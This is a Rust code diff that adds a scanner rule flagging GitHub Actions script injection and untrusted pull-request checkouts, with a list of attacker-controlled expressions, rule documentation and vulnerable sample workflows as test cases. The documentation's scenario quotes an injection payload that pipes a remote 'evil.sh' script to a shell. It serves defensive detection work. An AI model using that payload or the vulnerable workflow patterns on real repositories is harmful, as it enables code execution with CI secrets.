@@ -190,7 +190,16 @@ fn github(d: &Y, out: &mut ManifestOutput) {
             }
         }
     }
+    let prt = triggers(d)
+        .iter()
+        .any(|t| t == "pull_request_target" || t == "workflow_run");
     for j in jobs {
+        for step in j.value.get("steps").map(Y::items).unwrap_or(&[]) {
+            injection(step, out);
+            if prt {
+                untrusted_checkout(step, out);
+            }
+        }
         if let Some(p) = j.value.entry("permissions")
             && let Some(what) = broad(&p.value)
         {
@@ -211,6 +220,110 @@ fn github(d: &Y, out: &mut ManifestOutput) {
                 pin(u.text(), u.line, u.col, out);
             }
         }
+    }
+}
+
+/// The events that trigger a workflow (`on:` as a string, list or map).
+fn triggers(d: &Y) -> Vec<String> {
+    // YAML 1.1 readers turn a bare `on` key into `true`.
+    let on = d.get("on").or_else(|| d.get("true"));
+    match on {
+        Some(o) if o.is_map() => o.entries().iter().map(|e| e.key.clone()).collect(),
+        Some(o) => o.strings().iter().map(|s| s.to_string()).collect(),
+        None => Vec::new(),
+    }
+}
+
+/// Expressions an outsider controls (issue titles, PR bodies, branch names, commit
+/// messages): interpolated into a `run:` script they execute as shell.
+const UNTRUSTED: &[&str] = &[
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.head_commit.message",
+    "github.head_ref",
+];
+
+fn injection(step: &Y, out: &mut ManifestOutput) {
+    let Some(run) = step.entry("run") else {
+        return;
+    };
+    let script = run.value.text();
+    for (i, l) in script.lines().enumerate() {
+        let Some(start) = l.find("${{") else {
+            continue;
+        };
+        let expr = &l[start..];
+        if let Some(u) = UNTRUSTED.iter().find(|u| expr.contains(*u)).or_else(|| {
+            // `github.event.commits.*.message`, `github.event.pages.*.page_name`
+            (expr.contains("github.event.commits") && expr.contains(".message")
+                || expr.contains("github.event.pages") && expr.contains("page_name"))
+            .then_some(&"github.event.commits/pages")
+        }) {
+            // A block scalar starts on the line after `run: |`.
+            // A block scalar (`run: |`) starts on the line after the key and is indented
+            // (usually) two columns past it; a plain scalar starts at its value.
+            let block = script.contains('\n');
+            let (line, col) = if block {
+                (
+                    run.line + 1 + i as u32,
+                    run.col + 2 + (l.len() - l.trim_start().len()) as u32,
+                )
+            } else {
+                (run.value.line, run.value.col)
+            };
+            let mut h = Hit::at(
+                &INJECTION,
+                line,
+                col,
+                u.to_string(),
+                format!(
+                    "`run:` interpolates `{u}`, which anyone opening an issue or pull request controls: it runs as shell (pass it through `env:` instead)"
+                ),
+            );
+            h.site(format!("run {u}"));
+            out.hits.push(h);
+            break;
+        }
+    }
+}
+
+fn untrusted_checkout(step: &Y, out: &mut ManifestOutput) {
+    let uses = step.get("uses").map(Y::text).unwrap_or("");
+    if !uses.starts_with("actions/checkout") {
+        return;
+    }
+    let Some(r) = step.get("with").and_then(|w| w.entry("ref")) else {
+        return;
+    };
+    let v = r.value.text();
+    if v.contains("github.event.pull_request.head")
+        || v.contains("github.head_ref")
+        || v.contains("github.event.workflow_run.head")
+        || v.contains("refs/pull/")
+    {
+        let mut h = Hit::at(
+            &INJECTION,
+            r.value.line,
+            r.value.col,
+            "pull_request_target checkout",
+            "a `pull_request_target`/`workflow_run` workflow checks out the pull request's code: untrusted code then runs with the repository's secrets and a write token",
+        );
+        h.severity(Severity::P0);
+        h.site("checkout head".to_string());
+        out.hits.push(h);
     }
 }
 
@@ -414,6 +527,43 @@ the jobs that need them; set the organisation default to read-only.",
     ],
 };
 
+pub static INJECTION: RuleMeta = RuleMeta {
+    id: "gha-untrusted-input",
+    category: "GHA",
+    severity: Severity::P1,
+    confidence: Confidence::High,
+    preview: false,
+    languages: &["yaml"],
+    summary: "Workflow runs attacker-controlled input (script injection, untrusted checkout)",
+    docs: Docs {
+        what: "GitHub Actions patterns that run what outsiders control: a `run:` script interpolating `${{ }}` expressions from issue/PR titles and bodies, comments, branch names or commit messages (script injection), and a `pull_request_target` or `workflow_run` workflow that checks out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`), which runs untrusted code with secrets and a write token (P0).",
+        scenario: "Someone opens an issue titled `\"; curl evil.sh | sh #`, or a pull request from a fork whose build script exfiltrates secrets.",
+        impact: "Arbitrary code runs in CI with the repository's token and secrets: releases, packages and the default branch can be tampered with.",
+        detection: "Unexpected workflow runs or outbound traffic from runners; GitHub's CodeQL `actions` queries.",
+        mitigation: "Pass untrusted values through `env:` and quote them in the script; never build or run pull request code in `pull_request_target`; use `pull_request` (no secrets) and a separate trusted workflow.",
+        fixes: &[(
+            "yaml",
+            "- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"",
+        )],
+        monitoring: "Alert on workflow runs triggered by first-time contributors that touch secrets.",
+    },
+    outside_production: Handling::Keep,
+    cases: &[
+        case!(
+            ".github/workflows/triage.yml",
+            "on:\n  issues:\n    types: [opened]\npermissions: { issues: write }\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo \"new issue\"\n          echo \"${{ github.event.issue.title }}\" | ./label.sh\n          ^ github.event.issue.title\n"
+        ),
+        case!(
+            ".github/workflows/pr.yml",
+            "on: pull_request_target\npermissions: { contents: read }\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n               ^ checks out the pull request's code\n      - run: make test\n"
+        ),
+        case!(
+            ".github/workflows/ok.yml",
+            "on: [pull_request]\npermissions: { contents: read }\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$TITLE\" && echo ${{ github.sha }}\n"
+        ),
+    ],
+};
+
 pub static NO_CI: RuleMeta = RuleMeta {
     id: "repository-without-ci",
     category: "CI",
@@ -506,7 +656,7 @@ pub static NO_TESTS: RuleMeta = RuleMeta {
 };
 
 pub fn rules() -> Vec<&'static RuleMeta> {
-    vec![&PINNING, &PERMISSIONS, &NO_CI, &NO_TESTS]
+    vec![&PINNING, &PERMISSIONS, &INJECTION, &NO_CI, &NO_TESTS]
 }
 
 #[cfg(test)]
